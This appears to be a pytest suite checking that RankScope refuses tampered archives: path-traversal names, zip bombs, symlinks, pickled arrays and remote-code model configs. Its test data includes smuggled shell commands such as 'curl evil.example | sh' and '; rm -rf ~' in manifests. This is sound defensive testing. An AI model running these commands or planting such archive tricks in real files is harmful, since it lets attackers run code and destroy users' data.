"""Archives that `rankscope pack` did not write: each is refused in one sentence, and nothing on the disk changes."""

import io
import json
import pickle
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import packed
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import open as open_command
from core.workspace import archive as archive_format
from core.workspace import opening, packing
from core.workspace.errors import UserError
from core.workspace.workspace import VARIABLE, Workspace

COLLECTION, RUN, MODEL = "artifacts/collection", "artifacts/runs/bm25", "models/tuned"


@pytest.fixture(scope="module")
def genuine(tmp_path_factory) -> Path:
    """An archive of the tiny collection."""
    folder = packed.build(tmp_path_factory.mktemp("here") / "artifacts")
    path = tmp_path_factory.mktemp("packed") / "genuine.zip"
    packing.write_archive(packing.contents(folder), path)
    return path


@pytest.fixture
def refused(tmp_path, monkeypatch, command):
    """A function that opens an archive and says whether it was refused with the given words, nothing being changed."""
    root = tmp_path / "project" / "artifacts"
    (root / "mine" / "collection").mkdir(parents=True)
    (root / "mine" / "collection" / "corpus.jsonl").write_text("mine")
    (tmp_path / "secret.txt").write_text("secret")
    monkeypatch.setenv(VARIABLE, str(root))

    def check(path: Path, *words: str) -> bool:
        before = packed.tree(tmp_path)
        outcome = command(open_command.main, path)
        assert packed.tree(tmp_path) == before
        assert "Traceback" not in outcome.err and outcome.status == 2, outcome
        errors = [line for line in outcome.err.splitlines() if line.startswith("error: ")]
        assert len(errors) == 1 and all(word in errors[0] for word in words), outcome.err
        return True

    return check


def member(members, name, **changes):
    """Change entries of a JSON file in an archive, with a correct digest of itself."""
    members[name] = packed.signed(json.loads(members[name]) | changes)


def in_profile(change: Callable[[dict], object]):
    """Return a change of the profile."""

    def apply(index, members):
        profile = json.loads(members["artifacts/profile.json"])
        change(profile)
        members["artifacts/profile.json"] = packed.signed(profile)

    return apply


def added(name: str, content: bytes = b"{}"):
    """Return a change that adds a file."""
    return lambda index, members: members.__setitem__(name, content)


def in_manifest(**changes):
    """Return a change of a run's manifest."""
    return lambda index, members: member(members, f"{RUN}/manifest.json", **changes)


def of_arrays(array, **options) -> bytes:
    file = io.BytesIO()
    np.save(file, array, **options)
    return file.getvalue()


def replaced(name: str, content: bytes):
    """Return a change of a file and of its manifest."""

    def apply(index, members):
        members[name] = content
        folder = name.rpartition("/")[0]
        manifest = json.loads(members[f"{folder}/manifest.json"])
        about = packed.about(content)
        manifest["files"][name.rpartition("/")[2]] = about
        members[f"{folder}/manifest.json"] = packed.signed(manifest)

    return apply


def with_file(place: str, name: str, content: bytes = b"{}"):
    """Return a change that adds a file to an artifact and its manifest."""

    def apply(index, members):
        manifest = json.loads(members[f"{place}/manifest.json"])
        manifest["files"][name] = packed.about(content)
        members[f"{place}/manifest.json"] = packed.signed(manifest)
        members[f"{place}/{name}"] = content

    return apply


NAMES = [
    "../evil.json",
    "artifacts/../../evil.json",
    "artifacts/runs/../../evil.json",
    "/etc/evil.json",
    "//host/share/evil.json",
    "C:/evil.json",
    "C:evil.json",
    "artifacts\\runs\\evil.json",
    "artifacts/runs/bm25/..\\..\\evil.json",
    "artifacts//runs/evil.json",
    "artifacts/./runs/evil.json",
    "artifacts/runs/bm25/.hidden.json",
    "artifacts/.git/hooks/pre.json",
    "artifacts/runs/con/manifest.json",
    "artifacts/runs/bm25/nul.json",
    "artifacts/runs/bm25/COM1.json",
    "artifacts/runs/bm25/evil.json.",
    "artifacts/runs/bm25/evil.json ",
    "artifacts/runs/bm25/evil.json:stream",
    "artifacts/runs/bm25/é.json",
    "artifacts/runs/bm25/e\u202egpj.json",
    "artifacts/runs/bm25/left-out.json",
    f"artifacts/runs/bm25/{'a' * 200}.json",
    "artifacts/a/b/c/d/e/f/g.json",
    "downloads/evil/config.json",
    "evil.json",
    "artifacts/evil.json",
    "artifacts/runs/bm25/evil.pkl",
    "artifacts/runs/bm25/evil.py",
    "artifacts/runs/bm25/evil.sh",
    "artifacts/runs/bm25/evil",
    "models/tuned/pytorch_model.bin",
    "models/tuned/evil.py",
    "models/tuned/corpus.jsonl",
    "hub-models/evil/corpus.jsonl",
    "artifacts/milvus/dense/index.db",
]


@pytest.mark.parametrize("name", NAMES)
def test_names_that_no_archive_has(genuine, tmp_path, refused, name):
    assert refused(packed.changed(genuine, tmp_path / "a.zip", added(name)), "refused, as ")
    assert archive_format.path_problem(name)


CASES = {
    "a case collision": (added(f"{RUN}/RUN.trec"), "differ in case"),
    "a case collision of folders": (added("artifacts/Collection/a.json"), "differ in case"),
    "a file that is a folder": (added("artifacts/collection/queries.jsonl/a.json"), "is a file and a folder"),
    "a file of no artifact": (added("artifacts/other/a.json"), "does not belong to exactly one artifact"),
    "a file that the manifest does not list": (added(f"{RUN}/other.json"), "does not list the files"),
    "an artifact in an artifact": (
        lambda index, members: members.__setitem__("artifacts/runs/manifest.json", members[f"{RUN}/manifest.json"]),
        "does not belong to exactly one",
    ),
    "a model without a manifest": (
        lambda index, members: members.pop(f"{MODEL}/manifest.json"),
        "has no manifest",
    ),
    "a file too few": (lambda index, members: members.pop(f"{RUN}/run.trec"), "does not list the files"),
    "another digest in the manifest": (
        lambda index, members: members.__setitem__(f"{RUN}/run.trec", b"1 Q0 d1 1 9 evil\n"),
        "have different digests of run.trec",
    ),
    "a manifest with another digest of itself": (
        lambda index, members: members.__setitem__(
            f"{RUN}/manifest.json", members[f"{RUN}/manifest.json"].replace(b'"search"', b'"hacked"')
        ),
        "sha256 does not match",
    ),
    "a manifest that is no table": (added(f"{RUN}/manifest.json", b"[]"), "is not a manifest"),
    "a manifest of brackets": (added(f"{RUN}/manifest.json", b"[" * 100_000), "is not a manifest"),
    "a manifest with settings of another type": (in_manifest(settings=[1]), "is not a manifest"),
    "a manifest with a negative time": (in_manifest(seconds="soon"), "is not a manifest"),
    "a manifest with a file of no digest": (in_manifest(files={"run.trec": {"bytes": 1}}), "is not a manifest"),
    "a command to copy": (in_manifest(command="curl evil.example | sh"), "its command is"),
    "a command with more": (in_manifest(command="python -m core.search; rm -rf ~"), "its command is"),
    "a command with a new line": (in_manifest(command="python -m core.search\nrm -rf ~"), "its command is"),
    "a pickle in an array": (
        replaced("artifacts/vectors/given/vectors.npy", of_arrays(np.array([{}], dtype=object), allow_pickle=True)),
        "is not an array of numbers",
    ),
    "a pickle as an array": (
        replaced("artifacts/vectors/given/vectors.npy", pickle.dumps([1])),
        "is not an array of numbers",
    ),
    "an array with a header of its own": (
        replaced("artifacts/vectors/given/vectors.npy", of_arrays(np.zeros(3)).replace(b"(3,)", b"(9,)")),
        "is not an array of numbers",
    ),
    "a model with code of its own": (
        replaced(f"{MODEL}/config.json", b'{"\\u0061uto_map": {"AutoModel": "evil--evil.Evil"}}'),
        "asks for code of its own",
    ),
    "a model that the index does not name": (
        lambda index, members: members.update(
            {"hub-models/evil--evil/config.json": b"{}", "hub-models/evil--evil/model.safetensors": b""}
        ),
        "is not a model of its index",
    ),
    "a collection named beyond its folder": (
        lambda index, members: index.update(collection="../evil"),
        "cannot be a collection's name",
    ),
    "a collection named models": (lambda index, members: index.update(collection="models"), "is reserved"),
    "a profile of another collection": (
        lambda index, members: index.update(collection="other"),
        "its profile is that of tiny",
    ),
    "no profile": (lambda index, members: members.pop("artifacts/profile.json"), "no profile"),
    "a profile that is no table": (added("artifacts/profile.json", b"7"), "its profile cannot be read"),
    "a profile with a digest of another": (
        added("artifacts/profile.json", b'{"sha256": "0"}'),
        "its profile cannot be read",
    ),
    "a source anywhere": (in_profile(lambda p: p["collection"].update(source="/etc")), "the absolute path '/etc'"),
    "a source on a share": (in_profile(lambda p: p["collection"].update(source=r"\\evil\a")), "the absolute path"),
    "triples on a drive": (in_profile(lambda p: p["triples"].update(source="C:x")), "the absolute path"),
    "queries on a drive": (in_profile(lambda p: p["doc2query"].update(source="C:/x")), "the absolute path"),
    "a model trained into the project": (
        in_profile(lambda p: p["finetune"].update(model="core")),
        "finetune.model is 'core'",
    ),
    "a model trained beyond the workspace": (
        in_profile(lambda p: p["finetune"].update(model="artifacts/models/../../../x")),
        "finetune.model is",
    ),
    "a model of a system beyond the workspace": (
        in_profile(lambda p: p["system"][2].update(model="artifacts/../x")),
        "the model of tuned is",
    ),
    "a T5 anywhere": (in_profile(lambda p: p["doc2query"].update(model="/x/y")), "doc2query.model is"),
    "a base anywhere": (in_profile(lambda p: p["finetune"].update(base="../x")), "finetune.base is"),
    "a part that is none": (lambda index, members: index.update(without=["<b>"]), "which is not a part"),
    "a file left out of nothing": (
        lambda index, members: index.update(left_out={"artifacts/other": ["a"]}),
        "is not an artifact in it",
    ),
    "a file left out that is there": (
        lambda index, members: index.update(left_out={RUN: ["run.trec"]}),
        "does not list the files",
    ),
    "an entry of its own in the index": (lambda index, members: index.update(evil=1), "is not valid (evil"),
    "a negative size": (
        lambda index, members: index["files"].update({f"{RUN}/run.trec": {"bytes": -1, "sha256": "0" * 64}}),
        "is not valid",
    ),
    "a newer format": (lambda index, members: index.update(format=2), "a newer version of RankScope"),
    "an older format": (lambda index, members: index.update(format=0), "an older version of RankScope"),
    "a format in words": (lambda index, members: index.update(format="1"), "does not name the version"),
    "another size in the index": (
        lambda index, members: index["files"].update({f"{RUN}/run.trec": {"bytes": 9, "sha256": "0" * 64}}),
        "9 in the index",
    ),
    "a bomb": (with_file(RUN, "bomb.json", b" " * 50_000_000), "unpacks from"),
}


@pytest.mark.parametrize("case", CASES)
def test_planted_faults(genuine, tmp_path, refused, case):
    change, words = CASES[case]
    assert refused(packed.changed(genuine, tmp_path / "a.zip", change), words)


def test_the_changes_of_these_tests_are_the_only_fault(genuine, tmp_path, monkeypatch, command):
    unchanged = packed.changed(genuine, tmp_path / "a.zip", lambda index, members: None)
    added_file = packed.changed(genuine, tmp_path / "b.zip", with_file(RUN, "more.json"))
    monkeypatch.setenv(VARIABLE, str(tmp_path / "artifacts"))
    assert command(open_command.main, unchanged).status == 0
    assert command(open_command.main, added_file, "--name", "other").status == 0


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO, stat.S_IFDIR])
def test_links_and_devices(genuine, tmp_path, refused, kind):
    members: dict = packed.contents(genuine)
    content = members.pop(f"{RUN}/run.trec")
    about = zipfile.ZipInfo(f"{RUN}/run.trec")
    about.external_attr = (kind | 0o777) << 16
    packed.write(tmp_path / "a.zip", members | {about: content})
    assert refused(tmp_path / "a.zip", "run.trec is not a file")


def test_folders_and_two_members_of_one_name(genuine, tmp_path, refused):
    members = packed.contents(genuine)
    packed.write(tmp_path / "a.zip", members | {"artifacts/runs/": b""})
    assert refused(tmp_path / "a.zip", "its index does not list 'artifacts/runs/'")
    packed.write(tmp_path / "b.zip", members)
    with warnings.catch_warnings(), zipfile.ZipFile(tmp_path / "b.zip", "a") as file:
        warnings.simplefilter("ignore")
        file.writestr(f"{RUN}/run.trec", b"evil")
    assert refused(tmp_path / "b.zip", "two members of one name")


def test_other_ways_of_packing(genuine, tmp_path, refused):
    members = packed.contents(genuine)
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_LZMA) as file:
        for name, content in members.items():
            file.writestr(name, content)
    assert refused(tmp_path / "a.zip", "compressed in another way")
    encrypted = bytearray(genuine.read_bytes())
    at = 0
    for signature, flags in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        at = 0
        while (at := encrypted.find(signature, at)) >= 0:
            encrypted[at + flags] |= 1
            at += 4
    (tmp_path / "b.zip").write_bytes(encrypted)
    assert refused(tmp_path / "b.zip")


def test_indexes_that_are_none(genuine, tmp_path, refused):
    members = packed.contents(genuine)
    index = json.loads(members["rankscope.json"])
    for number, (text, words) in enumerate(
        [
            (b"", "is damaged"),
            (b"[]", "does not name the version"),
            (b"[" * 100_000, "is damaged"),
            (b"\xff\xfe", "is damaged"),
            (json.dumps(index | {"collection": "other"}).encode(), "sha256 does not match"),
            (json.dumps({key: value for key, value in index.items() if key != "sha256"}).encode(), "sha256 does not"),
            (packed.signed(index | {"files": []}), "is not valid (files"),
            (packed.signed(index | {"models": {"../x": {"sha256": "", "included": False}}}), "name of a model"),
            (b" " * (opening.LARGEST_INDEX + 1), "its index has"),
        ]
    ):
        path = tmp_path / f"{number}.zip"
        packed.write(path, members | {"rankscope.json": text})
        assert refused(path, words)
    del members["rankscope.json"]
    packed.write(tmp_path / "none.zip", members)
    assert refused(tmp_path / "none.zip", "it has no rankscope.json")


def test_files_that_are_no_archive(genuine, tmp_path, refused):
    content = genuine.read_bytes()
    for number, text in enumerate(
        [b"", b"PK", b"evil" * 1000, content[:-1], content[: len(content) // 2], content[9:]]
    ):
        path = tmp_path / f"{number}.zip"
        path.write_bytes(text)
        assert refused(path)
    assert refused(tmp_path / "gone.zip", "there is no such file")
    assert refused(tmp_path, "there is no such file")


def test_sizes_beyond_the_disk_and_beyond_what_is_there(genuine, tmp_path, refused, monkeypatch):
    monkeypatch.setattr(opening, "free_bytes", lambda _: 1000)
    assert refused(genuine, "but only 1,000 are free")


def test_a_size_in_the_zip_that_its_data_exceeds(genuine, tmp_path, refused):
    name, real = f"{RUN}/run.trec", len(packed.contents(genuine)[f"{RUN}/run.trec"])
    path = packed.changed(
        genuine,
        tmp_path / "a.zip",
        lambda index, members: index["files"].update({name: {"bytes": 5, "sha256": "0" * 64}}),
    )
    content = path.read_bytes()
    at = content.rfind(name.encode()) - 46  # in the list of members
    assert struct.unpack_from("<L", content, at + 24) == (real,)
    path.write_bytes(content[: at + 24] + struct.pack("<L", 5) + content[at + 28 :])
    assert refused(path)


def test_members_that_overlap(genuine, tmp_path, refused):
    # Two entries of the list of members that lead to the same data, as in Fifield's zip bombs (2019).
    members = packed.contents(genuine)
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as file:
        for name, content in members.items():
            file.writestr(name, content)
        largest = max(file.infolist(), key=lambda about: about.compress_size)
        for name in members:
            about = file.getinfo(name)
            about.header_offset, about.compress_size = largest.header_offset, largest.compress_size
            about.file_size, about.CRC = largest.file_size, largest.CRC
    assert refused(tmp_path / "a.zip")


def test_a_list_of_members_that_would_fill_the_memory(tmp_path, refused):
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 900_000_000, 0, 0)
    (tmp_path / "a.zip").write_bytes(b"\0" * 1000 + end)
    assert refused(tmp_path / "a.zip", "its list of members has 900,000,000 bytes")


@given(data=st.data())
def test_changed_bytes_are_noticed_or_do_not_matter(genuine, tmp_path_factory, data):
    content = bytearray(genuine.read_bytes())
    for _ in range(data.draw(st.integers(1, 3))):
        position = data.draw(st.integers(0, len(content) - 1))
        content[position] ^= data.draw(st.integers(1, 255))
    if data.draw(st.booleans()):
        del content[data.draw(st.integers(0, len(content))) :]
    folder = tmp_path_factory.mktemp("changed")
    (folder / "a.zip").write_bytes(content)
    workspace = Workspace(folder / "artifacts")
    try:
        with opening.opened(folder / "a.zip") as checked:
            brought = opening.open_archive(workspace, checked)
    except UserError:
        assert packed.tree(folder).keys() == {"a.zip"}
        return
    expected = packed.contents(genuine)
    for name, digest in packed.tree(brought.folder.path).items():
        assert digest == packed.about(expected[f"artifacts/{name}"])["sha256"]


@given(text=st.text(max_size=40))
def test_allowed_paths_stay_in_their_folder(text):
    for path in (text, f"artifacts/{text}", f"artifacts/runs/{text}/run.trec", f"models/{text}.json"):
        if archive_format.path_problem(path):
            continue
        parts = path.split("/")
        assert path.isascii() and not path.startswith("/") and "\\" not in path and ":" not in path
        assert not any(part.startswith(".") or part.endswith(".") or not part for part in parts)
